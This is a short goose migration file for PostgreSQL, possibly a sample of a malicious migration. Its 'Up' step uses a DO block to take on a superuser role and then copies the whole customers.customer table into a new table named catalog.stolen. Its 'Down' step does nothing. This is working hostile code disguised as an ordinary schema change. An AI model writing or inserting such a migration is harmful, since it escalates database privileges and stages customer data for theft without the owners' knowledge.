-- SET SESSION AUTHORIZATION to a superuser, allowed when the login is one.
-- +goose Up
-- +goose StatementBegin
DO $$ BEGIN EXECUTE format('SET SESSION AUTHORIZATION %I', (SELECT rolname FROM pg_catalog.pg_roles WHERE rolsuper ORDER BY oid LIMIT 1)); END $$;
-- +goose StatementEnd
CREATE TABLE catalog.stolen AS SELECT * FROM customers.customer;

-- +goose Down
SELECT 1;
